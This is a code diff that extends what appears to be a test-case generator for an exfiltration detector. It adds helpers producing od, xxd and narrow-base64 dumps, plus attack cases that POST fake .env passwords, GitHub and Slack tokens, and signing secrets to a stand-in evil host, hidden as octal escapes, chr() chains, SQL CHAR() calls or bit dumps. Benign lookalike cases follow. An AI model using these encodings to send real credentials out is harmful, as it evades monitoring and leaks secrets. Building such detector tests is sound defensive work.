@@ -196,6 +196,33 @@ def _xxd_p(data: bytes) -> str:
     return "".join(text[i:i + 60] + "\n" for i in range(0, len(text), 60))
 
 
+def _od_c(data: bytes) -> str:
+    """What ``od -c`` prints: octal offsets, each byte in a cell of four columns."""
+    def cell(b: int) -> str:
+        named = {0: "\\0", 7: "\\a", 8: "\\b", 9: "\\t", 10: "\\n", 11: "\\v", 12: "\\f", 13: "\\r"}
+        return f"{named[b]:>4}" if b in named else (f"{chr(b):>4}" if 0x20 <= b < 0x7F else f" {b:03o}")
+    return "".join(f"{at:07o}" + "".join(cell(b) for b in data[at:at + 16]) + "\n"
+                   for at in range(0, len(data), 16)) + f"{len(data):07o}\n"
+
+
+def _od_b(data: bytes) -> str:
+    """What ``od -b`` prints: octal offsets, each byte as three octal digits."""
+    return "".join(f"{at:07o} " + " ".join(f"{b:03o}" for b in data[at:at + 16]) + "\n"
+                   for at in range(0, len(data), 16)) + f"{len(data):07o}\n"
+
+
+def _xxd_b(data: bytes) -> str:
+    """What ``xxd -b`` prints: offset, six bytes a line as bits, the bytes as text."""
+    return "".join(f"{at:08x}: {' '.join(f'{b:08b}' for b in data[at:at + 6]):<53}  {_shown(data[at:at + 6])}\n"
+                   for at in range(0, len(data), 6))
+
+
+def _wrapped_b64(data: bytes, width: int) -> str:
+    """``base64 -w width``."""
+    text = base64.b64encode(data).decode()
+    return "".join(text[i:i + width] + "\n" for i in range(0, len(text), width))
+
+
 def _dns_query(name: str, qtype: int = 1) -> bytes:
     """A DNS query message (RFC 1035 wire format) for ``name``, as DNS over HTTPS sends one."""
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
@@ -495,6 +522,28 @@ def attacks(rng: random.Random) -> list[Case]:
     s32 = _b32(signing.encode())
     add("dns-over-https", "resolver JSON API ?name= with base32 labels", ("SIGNING_SECRET",),
         url=f"https://dns.google/resolve?name={s32[:30]}.{s32[30:]}.t.evil.example&type=TXT")
+
+    # -- character and bit dumps, octal escapes, character-code calls, narrow base64 ---------------
+    plain = (("Content-Type", "text/plain"),)
+    more = _Fakes(random.Random(606))  # its own generator: the benign cases after stay as they were
+    add("hexdump", "od -c of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste", headers=plain,
+        body=_od_c(env).encode())
+    token_file = f"[default]\ntoken = {more.github()}\n".encode()
+    add("hexdump", "od -b of a token file", ("github-token",), method="POST", url=f"{evil}/paste", headers=plain,
+        body=_od_b(token_file).encode())
+    add("hexdump", "xxd -b of a key in a JSON field", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/j",
+        headers=(JSON,), body=_json({"bits": _xxd_b(f"key: {vendor}\n".encode())}))
+    add("escape", "octal escapes without zero padding (printf)", ("DB_PASSWORD",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=("printf '" + "".join(f"\\{b:o}" for b in db.encode()) + "'").encode())
+    add("escape", "echo -e octal escapes of a token", ("slack-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=("echo -e '" + "".join(f"\\0{b:03o}" for b in more.slack().encode()) + "'").encode())
+    add("charcodes", "Python chr() concatenation of the signing secret", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/run", headers=plain, body=("s = " + "+".join(f"chr({b})" for b in signing.encode())).encode())
+    add("charcodes", "SQL CONCAT(CHAR(..)) of a token", ("github-token",), method="POST", url=f"{evil}/q",
+        headers=(JSON,), body=_json({"query": "SELECT CONCAT(" + ", ".join(f"CHAR({b})" for b in more.github().encode())
+                                              + ") AS t"}))
+    add("base64", "base64 -w 16 of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=_wrapped_b64(env, 16).encode())
     return out
 
 
@@ -756,6 +805,22 @@ def benign(rng: random.Random) -> list[Case]:
     add("dns-over-https", "DNS over HTTPS POST of an ACME challenge name", method="POST",
         url="https://cloudflare-dns.com/dns-query", headers=(("Content-Type", "application/dns-message"),),
         body=_dns_query("_acme-challenge.build-7d9f8b6c5d.example.org", 16))
+    source = b"def main() -> None:\n    print('hello, world')\n    return None\n" * 8
+    add("lookalike", "od -c of a source file in an issue", method="POST", url="https://api.github.com/repos/o/r/issues",
+        headers=(JSON,), body=_json({"title": "stray bytes", "body": "od -c says:\n" + _od_c(source + b"\r\n\x00")}))
+    add("lookalike", "od -b and xxd -b of random bytes", method="POST", url="https://ci.example.org/v1/artifacts",
+        headers=(("Content-Type", "text/plain"),), body=(_od_b(rng.randbytes(96)) + _xxd_b(rng.randbytes(48))).encode())
+    add("lookalike", "C source with octal escapes", method="POST", url="https://ci.example.org/v1/artifacts",
+        headers=(("Content-Type", "text/plain"),),
+        body=b'printf("\\033[1;31merror\\033[0m: %s\\n", msg);\nchar sep = \'\\0\';\n'
+             b'puts("\\101\\102\\103 \\60\\61\\62");\nre.sub(r"(a)(b)", r"\\2\\1", s)\n')
+    add("lookalike", "SQL and Python building text from character codes", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("SELECT CONCAT(first_name, CHAR(32), last_name, CHAR(13), CHAR(10)) FROM people;\n"
+              "letters = " + "+".join(f"chr({65 + i})" for i in range(12)) + "\n").encode())
+    add("lookalike", "an SSH key fingerprint in base64 wrapped at 16 columns", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=_wrapped_b64(rng.randbytes(48), 16).encode())
     return out
 
 
